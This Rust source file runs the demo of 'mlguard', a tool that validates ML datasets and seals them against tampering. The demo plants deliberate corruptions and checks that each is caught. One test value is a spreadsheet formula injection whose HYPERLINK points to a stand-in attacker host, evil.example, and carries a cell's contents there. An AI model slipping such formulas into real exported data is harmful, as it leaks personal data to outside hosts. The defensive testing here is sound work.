//! `mlguard demo`: the product's front door. Runs each capability on a generated dataset
//! and shows it at work, in a few lines per step.
//!
//! The demo is a list of steps sharing one [`Demo`] context; later capabilities add a
//! step (and, if needed, a field of the context). A step that does not see what it must
//! (a clean file rejected, a corruption missed) records a failure and the demo exits 1.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Instant;

use anyhow::Context;
use mlguard_data::{InferOptions, Schema, ValidateOptions, synth};
use mlguard_findings::{Level, Report};

use crate::args::DemoArgs;
use crate::data::summary_line;
use crate::output::{Out, thousands};

/// State shared by the steps.
struct Demo<'a> {
    out: &'a mut Out,
    dir: PathBuf,
    rows: u64,
    seed: u64,
    /// The clean dataset.
    data: PathBuf,
    /// The drafted schema, once inferred.
    schema: Option<Schema>,
    /// What went wrong, for the final verdict.
    failures: Vec<String>,
}

type Step = fn(&mut Demo<'_>) -> anyhow::Result<()>;

/// The demo, in order.
const STEPS: &[(&str, Step)] = &[
    ("Generate synthetic user data", generate),
    ("Draft a schema from the data", infer),
    ("Validate the clean file", validate_clean),
    ("Corrupt copies of the file: each corruption must be caught", corruptions),
    ("Seal the validated dataset into a vault, then tamper with it", seal_dataset),
];

pub(crate) fn run(a: &DemoArgs, out: &mut Out) -> anyhow::Result<ExitCode> {
    let _temp; // removed when the demo ends, unless --out was given
    let dir = match &a.out {
        Some(d) => {
            fs::create_dir_all(d).with_context(|| format!("cannot create {}", d.display()))?;
            d.clone()
        }
        None => {
            let t = tempfile::Builder::new().prefix("mlguard-demo-").tempdir()?;
            let p = t.path().to_owned();
            _temp = t;
            p
        }
    };
    let data = dir.join("user_data.csv");
    let mut demo =
        Demo { out, dir, rows: a.rows, seed: a.seed, data, schema: None, failures: Vec::new() };
    let title = demo.out.bold("mlguard demo");
    demo.out.line(&format!(
        "{title}: the safeguards of an ML data pipeline, on {} synthetic users",
        thousands(a.rows)
    ))?;
    for (i, (name, step)) in STEPS.iter().enumerate() {
        let header = demo.out.bold(&format!("[{}/{}] {name}", i + 1, STEPS.len()));
        demo.out.line(&header)?;
        step(&mut demo)?;
    }
    if demo.failures.is_empty() {
        let ok = demo.out.good("All checks behaved as expected.");
        demo.out.line(&format!("{ok} Try it on your own data:"))?;
        demo.out.line("  mlguard data infer-schema data.csv -o schema.json && mlguard data validate data.csv --schema schema.json")?;
        demo.out.line("  mlguard init --key-file vault.key && mlguard seal data.csv --kind dataset && mlguard verify data.csv.mlseal")?;
        if a.out.is_some() {
            demo.out.line(&format!("Files kept in {}", demo.dir.display()))?;
        }
        Ok(ExitCode::SUCCESS)
    } else {
        let bad = demo.out.bad("The demo failed:");
        demo.out.line(&bad)?;
        for f in &demo.failures {
            demo.out.line(&format!("  - {f}"))?;
        }
        Ok(ExitCode::from(1))
    }
}

fn generate(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let t = Instant::now();
    let file =
        fs::File::create(&d.data).with_context(|| format!("cannot create {}", d.data.display()))?;
    synth::write_user_data(file, d.rows, d.seed)?;
    let size = fs::metadata(&d.data)?.len();
    let line = format!(
        "  {} rows × {} columns ({:.1} MB) in {} ms: ids, names, e-mails, phones, SSNs, birth dates, ZIPs, 20 features, 2 categories, a label",
        thousands(d.rows),
        synth::USER_DATA_HEADER.len(),
        size as f64 / 1e6,
        t.elapsed().as_millis()
    );
    d.out.line(&line)?;
    Ok(())
}

fn infer(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let inferred = mlguard_data::infer_path(&d.data, &InferOptions::default())?;
    let schema = inferred.schema;
    let text = serde_json::to_string_pretty(&schema.to_json())?;
    fs::write(d.dir.join("schema.json"), text)?;
    let with = |pred: fn(&mlguard_data::Field) -> bool| -> Vec<&str> {
        schema.fields.iter().filter(|f| pred(f)).map(|f| f.name.as_str()).collect()
    };
    let id = with(|f| f.role == Some(mlguard_data::Role::Id)).join(", ");
    let target = with(|f| f.role == Some(mlguard_data::Role::Target)).join(", ");
    let required = with(|f| f.constraints.required).len();
    let enums = with(|f| f.constraints.enum_values.is_some()).join(", ");
    let pii: Vec<String> =
        schema.fields.iter().filter_map(|f| f.pii.map(|k| format!("{} ({k})", f.name))).collect();
    d.out.line(&format!(
        "  {} fields, {required} required; id: {id}; target: {target}; enums: {enums}",
        schema.fields.len()
    ))?;
    d.out.line(&format!("  personal data: {}", pii.join(", ")))?;
    if id.is_empty() || target.is_empty() || pii.len() < 6 {
        d.failures.push("the drafted schema missed the id, the target or personal data".into());
    }
    d.schema = Some(schema);
    Ok(())
}

fn validate_file(d: &Demo<'_>, path: &Path) -> anyhow::Result<Report> {
    let schema = d.schema.as_ref().context("no schema: the infer step did not run")?;
    let opts = ValidateOptions { max_errors: 5, ..ValidateOptions::default() };
    let mut report = mlguard_data::validate_path(path, schema, &opts)?;
    // The temporary directory is noise on screen: show the file name.
    if let Some(name) = path.file_name() {
        report.subject = name.to_string_lossy().into_owned();
    }
    Ok(report)
}

fn validate_clean(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let t = Instant::now();
    let report = validate_file(d, &d.data)?;
    let ms = t.elapsed().as_millis();
    let line = summary_line(&report, d.out);
    d.out.line(&format!("  {line} ({ms} ms)"))?;
    if report.errors() > 0 || report.warnings() > 0 {
        d.failures.push("the clean file was not clean".into());
    }
    Ok(())
}

/// One way to damage the file, and the check that must catch it.
struct Corruption {
    what: &'static str,
    expect: &'static str,
    /// Changes the fields of data row `row` (1-based); `rows` are all data rows.
    apply: fn(rows: &mut [Vec<String>]),
}

fn col(name: &str) -> usize {
    synth::USER_DATA_HEADER.iter().position(|h| *h == name).unwrap_or(0)
}

const CORRUPTIONS: &[Corruption] = &[
    Corruption {
        what: "null in a required field",
        expect: "constraint.required",
        apply: |r| r[2][col("income")].clear(),
    },
    Corruption {
        what: "value out of range",
        expect: "constraint.maximum",
        apply: |r| r[4][col("age")] = "212".into(),
    },
    Corruption {
        what: "value outside the enum",
        expect: "constraint.enum",
        apply: |r| r[6][col("plan")] = "platinum".into(),
    },
    Corruption {
        what: "not a number",
        expect: "cell.type",
        apply: |r| r[8][col("credit_score")] = "n/a".into(),
    },
    Corruption {
        what: "duplicate primary key",
        expect: "key.primary",
        apply: |r| r[10][col("user_id")] = r[1][col("user_id")].clone(),
    },
    Corruption {
        what: "ragged row",
        expect: "csv.ragged-row",
        apply: |r| {
            r[12].pop();
        },
    },
    Corruption {
        what: "formula injection",
        expect: "cell.formula-injection",
        apply: |r| {
            r[14][col("full_name")] =
                "\"=HYPERLINK(\"\"http://evil.example/?\"\"&C2,\"\"Open\"\")\"".into()
        },
    },
];

fn corruptions(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let text = fs::read_to_string(&d.data)?;
    let mut lines = text.lines();
    let header = lines.next().unwrap_or_default().to_owned();
    let clean: Vec<Vec<String>> =
        lines.map(|l| l.split(',').map(str::to_owned).collect()).collect();
    let width = CORRUPTIONS.iter().map(|c| c.what.len()).max().unwrap_or(0);
    for (i, c) in CORRUPTIONS.iter().enumerate() {
        let mut rows = clean.clone();
        (c.apply)(&mut rows);
        let mut body = header.clone();
        body.push('\n');
        for r in &rows {
            body.push_str(&r.join(","));
            body.push('\n');
        }
        let path = d.dir.join(format!("corrupt-{}.csv", i + 1));
        fs::write(&path, body)?;
        let report = validate_file(d, &path)?;
        let hit = report.findings.iter().find(|f| f.check == c.expect);
        match hit {
            Some(f) => {
                let mark = d.out.good("caught");
                let note = if f.level == Level::Error {
                    ""
                } else {
                    " (a warning; an error with --strict)"
                };
                let loc = match (&f.location.line, &f.location.field) {
                    (Some(l), Some(field)) => format!("line {l} [{field}]"),
                    (Some(l), None) => format!("line {l}"),
                    _ => String::new(),
                };
                let value = f
                    .value
                    .as_deref()
                    .map(|v| format!(" {}", d.out.dim(&format!("{v:?}"))))
                    .unwrap_or_default();
                d.out.line(&format!(
                    "  {mark}  {:<width$}  {}[{}] {loc}{value}{note}",
                    c.what, f.level, c.expect
                ))?;
            }
            None => {
                let mark = d.out.bad("MISSED");
                d.out.line(&format!("  {mark} {:<width$}  expected {}", c.what, c.expect))?;
                d.failures.push(format!("{} was not caught", c.what));
            }
        }
        let _ = fs::remove_file(&path);
    }
    d.out.line(&d.out.dim("  (values of personal-data columns are masked in every report)"))?;
    Ok(())
}

fn seal_dataset(d: &mut Demo<'_>) -> anyhow::Result<()> {
    use mlguard_seal::{Keystore, SealOptions, Secret, SignerPolicy};
    let vault = d.dir.join("vault");
    let key_file = d.dir.join("vault.key");
    let _ = fs::remove_dir_all(&vault);
    let _ = fs::remove_file(&key_file);
    let store = Keystore::init(&vault, &Secret::create_key_file(&key_file)?)?;
    let keys = store.unlock(&Secret::from_key_file(&key_file)?)?;
    d.out.line(&format!(
        "  vault: AES-256 master key v1 wrapped by a key file, ECDSA P-256 signing key {}",
        &store.signing_public()?.key_id()[..16]
    ))?;
    let sealed = d.dir.join("user_data.csv.mlseal");
    let mut meta = serde_json::Map::new();
    meta.insert("name".into(), "user_data".into());
    meta.insert("rows".into(), d.rows.into());
    let opts = SealOptions { kind: mlguard_seal::Kind::Dataset, meta };
    let t = Instant::now();
    let mut input = fs::File::open(&d.data)?;
    mlguard_seal::write_atomic_with(&sealed, true, |f| {
        mlguard_seal::seal(&mut input, f, &keys, &opts).map(|_| ())
    })?;
    let ms = t.elapsed().as_millis();
    let header = mlguard_seal::Header::read(&mut fs::File::open(&sealed)?)?;
    let core = header.unverified_core()?;
    d.out.line(&format!(
        "  sealed {} bytes in {ms} ms; inspect: id {}, blake3 {}…, {}, wrapped for key v1",
        thousands(core.size),
        &core.id[..12],
        &core.blake3[..12],
        core.aead.alg
    ))?;
    match mlguard_seal::verify(&mut fs::File::open(&sealed)?, &keys, SignerPolicy::TrustedOnly) {
        Ok(_) => d.out.line(&format!(
            "  {} signature, key commitment, every segment, size and digest",
            d.out.good("verified")
        ))?,
        Err(e) => d.failures.push(format!("the sealed dataset did not verify: {e}")),
    }
    let mut bytes = fs::read(&sealed)?;
    let at = bytes.len() / 2;
    bytes[at] ^= 0x01;
    let tampered = d.dir.join("tampered.mlseal");
    fs::write(&tampered, &bytes)?;
    match mlguard_seal::verify(&mut fs::File::open(&tampered)?, &keys, SignerPolicy::TrustedOnly) {
        Ok(_) => {
            d.out.line(&format!("  {} a flipped byte was accepted", d.out.bad("MISSED")))?;
            d.failures.push("a tampered artifact verified".into());
        }
        Err(e) => d
            .out
            .line(&format!("  {}  one bit flipped at byte {at}: {e}", d.out.good("refused")))?,
    }
    let _ = fs::remove_file(&tampered);
    Ok(())
}
